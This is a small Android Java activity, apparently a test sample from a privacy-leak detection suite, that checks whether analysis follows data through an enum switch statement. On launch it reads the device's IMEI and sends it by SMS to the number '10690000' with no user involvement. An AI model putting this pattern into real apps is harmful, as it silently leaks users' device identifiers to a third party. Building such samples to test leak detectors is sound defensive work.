package cn.privlens.suite.enum_switch_case;

import android.app.*;
import android.content.*;
import android.database.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import java.util.*;
import java.util.concurrent.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Kind kind = Kind.DEVICE;
        String text;
        switch (kind) {
            case DEVICE:
                text = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
                break;
            default:
                text = "none";
                break;
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    }
}
